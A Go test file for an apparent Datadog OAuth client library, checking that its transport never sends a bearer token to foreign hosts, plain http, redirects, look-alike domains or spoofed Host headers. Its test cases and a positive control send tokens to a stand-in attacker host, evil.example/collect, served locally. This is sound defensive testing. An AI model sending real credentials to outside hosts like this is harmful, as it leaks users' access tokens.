package ddoauth_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ddoauth/ddoauth"
	"github.com/ddoauth/ddoauth/ddoauthtest"
)

// countingListener counts the connections it accepts: zero means not one
// byte reached the server.
type countingListener struct {
	net.Listener
	accepts atomic.Int32
}

func (l *countingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.accepts.Add(1)
	}
	return c, err
}

// collector is a server that is not Datadog: it answers 401 to whatever
// it gets, which would make a careless transport refresh and send it the
// new token too, and keeps the Authorization headers it saw.
type collector struct {
	srv *httptest.Server
	ln  *countingListener
	mu  sync.Mutex
	got []string
}

func newCollector(t *testing.T, useTLS bool) *collector {
	c := &collector{}
	c.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.got = append(c.got, r.Header.Get("Authorization"))
		c.mu.Unlock()
		w.Header().Set("WWW-Authenticate", "Bearer")
		w.WriteHeader(http.StatusUnauthorized)
	}))
	c.ln = &countingListener{Listener: c.srv.Listener}
	c.srv.Listener = c.ln
	if useTLS {
		c.srv.StartTLS()
	} else {
		c.srv.Start()
	}
	t.Cleanup(c.srv.Close)
	return c
}

func (c *collector) authorizations() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.got...)
}

// leakFixture is an EU1 connection on the emulator, with a base transport
// that sends Datadog's hosts to the emulator over TLS, evil.example to an
// https collector and every http:// request to a plain one, and counts
// the TLS connections it opens per host.
type leakFixture struct {
	dd    *ddoauthtest.Server
	c     *ddoauth.Client
	store *ddoauth.MemoryStore
	base  *http.Transport
	evil  *collector // https://evil.example
	plain *collector // any http:// URL

	mu    sync.Mutex
	dials map[string]int
}

func newLeakFixture(t *testing.T) *leakFixture {
	t.Helper()
	f := &leakFixture{evil: newCollector(t, true), plain: newCollector(t, false), dials: map[string]int{}}
	f.dd, f.c, f.store, _ = connected(t, ddoauth.Sites()[3])
	evilRoots := x509.NewCertPool()
	evilRoots.AddCert(f.evil.srv.Certificate())
	var d net.Dialer
	f.base = &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return d.DialContext(ctx, "tcp", f.plain.srv.Listener.Addr().String())
		},
		DialTLSContext: func(ctx context.Context, _, addr string) (net.Conn, error) {
			host, _, _ := net.SplitHostPort(addr)
			f.mu.Lock()
			f.dials[host]++
			f.mu.Unlock()
			// httptest's certificate names example.com, the emulator's
			// every Datadog host.
			to, cfg := f.dd.Addr(), &tls.Config{RootCAs: f.dd.CertPool(), ServerName: host}
			if host == "evil.example" {
				to, cfg = f.evil.srv.Listener.Addr().String(), &tls.Config{RootCAs: evilRoots, ServerName: "example.com"}
			}
			raw, err := d.DialContext(ctx, "tcp", to)
			if err != nil {
				return nil, err
			}
			conn := tls.Client(raw, cfg)
			if err := conn.HandshakeContext(ctx); err != nil {
				raw.Close()
				return nil, err
			}
			return conn, nil
		},
	}
	t.Cleanup(f.base.CloseIdleConnections)
	return f
}

func (f *leakFixture) dialed() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	var hosts []string
	for h := range f.dials {
		hosts = append(hosts, h)
	}
	sort.Strings(hosts)
	return hosts
}

// eventsURL lists the EU1 organization's events: a bearer-token call the
// emulator answers 200.
func eventsURL(host string) string {
	from := time.Now().Add(-time.Hour).Unix()
	return fmt.Sprintf("https://%s/api/v1/events?start=%d&end=%d", host, from, from+7200)
}

// TestTransportBearerOnlyToOwnAPIHost is issue 9's proof of concept: an EU1
// connection's client was asked to send its token to https://evil.example,
// to http://api.datadoghq.eu, to US1's API host and across a redirect;
// each such request fails before a connection is opened, no token leaves,
// and no refresh is forced.
func TestTransportBearerOnlyToOwnAPIHost(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name       string
		url        string
		host       string // a Host header other than the URL's
		redirectTo string // the EU1 API answers the events call with a redirect here
	}{
		{name: "another host", url: "https://evil.example/collect"},
		{name: "http to the own API host", url: "http://api.datadoghq.eu/api/v1/validate"},
		{name: "another site's API host", url: "https://api.datadoghq.com/api/v1/validate"},
		{name: "cross-host redirect", url: eventsURL("api.datadoghq.eu"), redirectTo: "https://evil.example/collect"},
		{name: "redirect to http", url: eventsURL("api.datadoghq.eu"), redirectTo: "http://api.datadoghq.eu/collect"},
		{name: "redirect to another site", url: eventsURL("api.datadoghq.eu"), redirectTo: eventsURL("api.datadoghq.com")},
		{name: "own site's logs intake", url: "https://http-intake.logs.datadoghq.eu/api/v2/logs"},
		{name: "own site's web app", url: "https://app.datadoghq.eu/"},
		{name: "organization subdomain", url: "https://acme.datadoghq.eu/"},
		{name: "another port", url: "https://api.datadoghq.eu:8443/api/v1/validate"},
		{name: "look-alike", url: "https://api.datadoghq.eu.evil.example/collect"},
		{name: "userinfo", url: "https://user:pass@api.datadoghq.eu/api/v1/validate"},
		{name: "Host header elsewhere", url: "https://api.datadoghq.eu/api/v1/validate", host: "evil.example"},
	}
	for _, tt := range tests {
		for _, warm := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/warm=%t", tt.name, warm), func(t *testing.T) {
				t.Parallel()
				f := newLeakFixture(t)
				ts := f.c.TokenSource(f.store, "tenant-1")
				hc := ts.Client(f.base)
				stored, err := f.store.Load(t.Context(), "tenant-1")
				require.NoError(t, err)
				if warm {
					resp, err := hc.Get(eventsURL("api.datadoghq.eu"))
					require.NoError(t, err)
					resp.Body.Close()
					require.Equal(t, http.StatusOK, resp.StatusCode, "the connection's own API host gets the token")
				}
				if tt.redirectTo != "" {
					f.dd.Fail(ddoauthtest.EndpointEvents, ddoauthtest.Fault{RedirectTo: tt.redirectTo})
				}
				req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, tt.url, strings.NewReader(`{"series":[]}`))
				require.NoError(t, err)
				if tt.redirectTo != "" {
					req.Method, req.Body, req.GetBody, req.ContentLength = http.MethodGet, nil, nil, 0
				}
				req.Host = tt.host
				resp, err := hc.Do(req)
				if resp != nil {
					resp.Body.Close()
				}

				require.ErrorIs(t, err, ddoauth.ErrForeignHost)
				e, ok := errors.AsType[*ddoauth.Error](err)
				require.True(t, ok, "a *ddoauth.Error")
				assert.NotContains(t, e.Error(), stored.Token.AccessToken)
				assert.Zero(t, f.evil.ln.accepts.Load(), "connections to evil.example")
				assert.Zero(t, f.plain.ln.accepts.Load(), "connections over http")
				assert.Empty(t, f.evil.authorizations())
				assert.Empty(t, f.plain.authorizations())
				if warm || tt.redirectTo != "" {
					assert.Equal(t, []string{"api.datadoghq.eu"}, f.dialed(), "hosts connected to")
				} else {
					assert.Empty(t, f.dialed(), "hosts connected to")
				}
				for _, r := range f.dd.Requests() {
					if r.Header.Get("Authorization") != "" {
						assert.Equal(t, "api.datadoghq.eu", r.Host, "a token reached %s %s", r.Host, r.Path)
					}
				}
				assert.Zero(t, f.dd.Count(ddoauthtest.EndpointToken), "refreshes")
			})
		}
	}
}

// TestLeakFixtureSeesLeaks is the positive control of the test above: the
// same base transport, used without the connection's Transport, reaches
// each collector and host, and they record the bearer they get.
func TestLeakFixtureSeesLeaks(t *testing.T) {
	t.Parallel()
	f := newLeakFixture(t)
	hc := &http.Client{Transport: f.base}
	for _, u := range []string{"https://evil.example/collect", "http://api.datadoghq.eu/collect", "https://api.datadoghq.com/api/v1/validate"} {
		req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, u, nil)
		require.NoError(t, err)
		req.Header.Set("Authorization", "Bearer leaked")
		resp, err := hc.Do(req)
		require.NoError(t, err, u)
		resp.Body.Close()
	}
	assert.Equal(t, int32(1), f.evil.ln.accepts.Load())
	assert.Equal(t, int32(1), f.plain.ln.accepts.Load())
	assert.Equal(t, []string{"Bearer leaked"}, f.evil.authorizations())
	assert.Equal(t, []string{"Bearer leaked"}, f.plain.authorizations())
	assert.Equal(t, []string{"api.datadoghq.com", "evil.example"}, f.dialed())
	require.Len(t, f.dd.Requests(), 1)
	assert.Equal(t, "api.datadoghq.com", f.dd.Requests()[0].Host)
}

// TestTransportForeignAnswerNeverRefreshes: a 401 that answers a request
// for another host (here a Base that followed a redirect by itself) says
// nothing about the token, so it neither refreshes nor retries.
func TestTransportForeignAnswerNeverRefreshes(t *testing.T) {
	t.Parallel()
	dd, c, store, _ := connected(t, ddoauth.Sites()[3])
	calls := 0
	base := roundTripFunc(func(r *http.Request) (*http.Response, error) {
		calls++
		elsewhere, err := http.NewRequest(http.MethodGet, "https://evil.example/collect", nil)
		require.NoError(t, err)
		return &http.Response{StatusCode: http.StatusUnauthorized, Body: io.NopCloser(strings.NewReader("{}")),
			Header: http.Header{}, Request: elsewhere}, nil
	})
	resp, err := c.TokenSource(store, "tenant-1").Client(base).Get("https://api.datadoghq.eu/api/v1/validate")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	assert.Equal(t, 1, calls, "no retry")
	assert.Zero(t, dd.Count(ddoauthtest.EndpointToken), "no refresh")
}
